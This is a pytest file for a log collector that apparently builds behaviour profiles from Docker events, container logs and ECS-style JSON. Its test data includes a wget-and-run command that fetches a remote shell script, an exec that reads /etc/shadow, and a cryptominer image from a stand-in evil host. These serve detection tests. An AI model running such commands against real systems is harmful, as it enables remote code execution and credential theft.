"""What Docker events, container logs and JSON objects say of behaviour."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import msgspec
import pytest

from collector.docker.behaviour import priors, program
from collector.formats import FORMATS
from event_model.behaviour import Facets
from event_model.event import Event, Origin, Record

POD = "/var/log/pods/prod_api-7f9c6d5b8d-x2x4z_0b1c/app/0.log"


def event_of(format: str, raw: bytes | dict[str, Any], path: str = "", cluster: str = "edge") -> Event:
    record = Record(raw if isinstance(raw, bytes) else msgspec.json.encode(raw))
    return FORMATS.make(format).normalize(record, Origin("test", format, path, cluster))


def docker(kind: str, action: str, **attributes: str) -> Event:
    named = {name.replace("__", "."): value for name, value in attributes.items()}
    actor = {"ID": "f" * 64, "Attributes": named}
    return event_of("docker_events", {"Type": kind, "Action": action, "Actor": actor, "time": 1793579264})


def facets(event: Event) -> Facets:
    behaviour = FORMATS.find(event.origin.format).behaviour
    assert behaviour.key(event) is not None
    found = behaviour.facets(event)
    assert isinstance(found, Facets)
    return found


SWARM, COMPOSE = "com__docker__swarm__service__name", "com__docker__compose__"


@pytest.mark.parametrize(
    ("attributes", "actor"),
    [
        ({"name": "shop_web.1.8zipgzzlfwutackl514aeo5un", "image": "web:1", SWARM: "shop_web"}, "shop_web"),
        ({"name": "shop_web.1.8zipgzzlfwutackl514aeo5un", "image": "web:1"}, "shop_web"),
        ({"name": "blog-db-1", "image": "db:1", f"{COMPOSE}project": "blog", f"{COMPOSE}service": "db"}, "blog/db"),
        ({"name": "report-41", "image": "r:7"}, "report"),
        ({"name": "happy_meitner", "image": "registry:5000/tools/alpine:3@sha256:0a"}, "image registry:5000/tools/alpine"),
        ({"name": "k8s_app_api-7f9c6d5b8d-x2x4z_prod_0b1c-22_3", "image": "api:1"}, "prod/api/app"),
        ({"image": "alpine"}, "image alpine"),
        ({}, "unnamed"),
    ],
)  # fmt: skip
def test_a_container_is_known_by_what_stays_when_it_is_replaced(
    attributes: dict[str, str], actor: str
) -> None:
    assert facets(docker("container", "exec_create: ls", **attributes)).actor == actor


@pytest.mark.parametrize(
    ("command", "name"),
    [
        ("/bin/sh -c wget -qO /tmp/.x http://203.0.113.66/x.sh; sh /tmp/.x", "wget"),
        ("/bin/sh ", "sh"),
        ("env A=b bash -c 'curl -s x'", "curl"),
        ("TOKEN=secret /usr/bin/psql -c select", "psql"),
        ("", "?"),
        ("x" * 10_000, "x" * 40),
    ],
)
def test_a_command_is_known_by_the_program_that_it_runs(command: str, name: str) -> None:
    assert program(command) == name


def test_an_exec_is_a_habit_of_its_container_and_names_files_that_hold_credentials() -> None:
    found = facets(
        docker("container", "exec_create: sh -c cat /etc/shadow; ls /tmp", name="web", image="web:1")
    )
    assert (found.actor, found.group, found.action, found.kind) == ("web", "containers", "exec cat", "exec")
    assert found.object == "/etc/shadow"
    assert facets(docker("container", "exec_start: ls /tmp", name="web", image="web:1")).object is None


def test_what_is_made_on_an_engine_is_a_habit_of_the_engine() -> None:
    created = facets(
        docker("container", "create", name="miner", image="evil.example/xmr:1", **{SWARM: "ops_miner"})
    )
    assert (created.actor, created.group, created.namespace) == ("engine edge", "engines", "ops")
    assert created.images == ("evil.example/xmr",)
    assert created.object == "container ops_miner"
    mounted = facets(docker("volume", "mount", name="cache-data"))
    assert (mounted.action, mounted.namespace) == ("volume mount", "cache-data")
    promoted = facets(docker("node", "update", name="edge-2", **{"role__new": "manager", "role__old": "worker"}))  # fmt: skip
    assert (promoted.action, promoted.kind, promoted.object) == ("node update role", "node", "node edge-2")


def test_an_exit_code_and_a_failed_health_check_are_failures() -> None:
    assert facets(docker("container", "die", name="web", image="web:1", exitCode="137")).outcome == "failed"
    assert facets(docker("container", "die", name="web", image="web:1", exitCode="0")).outcome == "ok"
    assert facets(docker("container", "health_status: unhealthy", name="web", image="w")).outcome == "failed"


def test_every_act_of_the_recorded_day_has_a_kind_with_a_prior(sample_logs: Path) -> None:
    kinds = {
        facets(event_of("docker_events", line)).kind
        for line in (sample_logs / "demo" / "docker_events.jsonl").read_bytes().splitlines()
    }
    assert {"exec", "commit", "copy out", "image pull", "node", "heartbeat"} <= kinds <= priors().keys()


@pytest.mark.parametrize("format", ["docker_events", "cri_log", "docker_json_log", "json"])
def test_equal_keys_have_equal_facets(format: str, sample_logs: Path) -> None:
    made, behaviour = FORMATS.make(format), FORMATS.find(format).behaviour
    path = next(sample_logs.glob(f"{format}.*l*"))
    seen: dict[Any, Facets | None] = {}
    for line in path.read_bytes().splitlines():
        for part in made.split(line) if line.startswith(b"{") else [line]:
            try:
                event = made.normalize(Record(part), Origin("test", format, POD))
            except Exception:
                continue  # sample logs hold records that no format reads
            if (key := behaviour.key(event)) is not None:
                assert seen.setdefault(key, behaviour.facets(event)) == behaviour.facets(event)
    assert seen


def test_a_line_of_a_container_says_who_wrote_it_and_what() -> None:
    event = event_of("cri_log", b"2026-11-23T10:00:00Z stderr F E1123 10:00:00 cannot bind", POD)
    assert facets(event).actor == "prod/api/app"
    assert facets(event).action == "write stderr"
    behaviour = FORMATS.find("cri_log").behaviour
    assert behaviour.text(event) == "E1123 10:00:00 cannot bind"
    numbers = {name: read(event) for name, read in behaviour.numbers.items()}
    assert numbers == {"line bytes": 56.0, "stderr share": 1.0, "error line share": 1.0}


@pytest.mark.parametrize(
    ("line", "text"),
    [
        ('{"level":"error","msg":"cannot bind","port":80}', "error: cannot bind"),
        ('{"message":"ready"}', "ready"),
        ('{"n":1}', '{"n":1}'),
        ('{"msg":', '{"msg":'),
        ('{"msg":5,"level":{}}', '{"msg":5,"level":{}}'),
    ],
)
def test_of_a_line_that_is_a_json_object_level_and_message_are_the_text(line: str, text: str) -> None:
    event = event_of("docker_json_log", {"log": line + "\n", "stream": "stdout", "time": "2026-11-23T10:00:00Z"})  # fmt: skip
    assert FORMATS.find("docker_json_log").behaviour.text(event) == text


@pytest.mark.parametrize(
    ("pod", "workload"),
    [
        ("api-7f9c6d5b8d-x2x4z", "api"),
        ("fluent-bit-x2x4z", "fluent-bit"),
        ("postgres-0", "postgres"),
        ("backup-28374650-x2x4z", "backup"),
        ("etcd-node", "etcd-node"),
    ],
)
def test_pods_lose_what_their_owner_generated(pod: str, workload: str) -> None:
    event = event_of("cri_log", b"2026-11-23T10:00:00Z stdout F x", f"/var/log/pods/prod_{pod}_0b1c/app/0.log")  # fmt: skip
    assert facets(event).actor == f"prod/{workload}/app"


def test_a_json_object_is_read_by_its_ecs_names_dotted_or_nested() -> None:
    nested = {"@timestamp": "2026-11-23T10:00:00Z", "user": {"name": "mallory"}, "source": {"ip": "203.0.113.9"},
              "event": {"action": "login", "category": ["authentication"], "duration": 2_500_000_000},
              "http": {"response": {"status_code": 403, "bytes": 12}}, "message": "no", "log": {"level": "warn"}}  # fmt: skip
    dotted = {"@timestamp": "2026-11-23T10:00:00Z", "user.name": "mallory", "source.ip": "203.0.113.9",
              "event.action": "login", "event.category": "authentication", "event.duration": 2_500_000_000,
              "http.response.status_code": 403, "http.response.bytes": 12, "message": "no", "log.level": "warn"}  # fmt: skip
    for native in (nested, dotted):
        event, behaviour = event_of("json", native), FORMATS.find("json").behaviour
        found = facets(event)
        assert (found.actor, found.group, found.action, found.kind) == ("mallory", "users", "login", "authentication")  # fmt: skip
        assert (found.source, found.outcome) == ("203.0.113.0/24", "denied")
        assert behaviour.text(event) == "warn: no"
        assert behaviour.numbers["duration"](event) == 2.5
        assert behaviour.numbers["sent bytes"](event) == 12.0


def test_a_json_object_without_anybody_who_acts_tells_nothing() -> None:
    behaviour = FORMATS.find("json").behaviour
    for native in (
        {"a": 1},
        {"user": "plain text"},
        {"user": {"name": {"x": 1}}},
        {"event": {"duration": "long"}},
    ):
        event = event_of("json", native)
        assert behaviour.key(event) is None
        assert behaviour.facets(event) is None
        assert all(read(event) is None for read in behaviour.numbers.values())
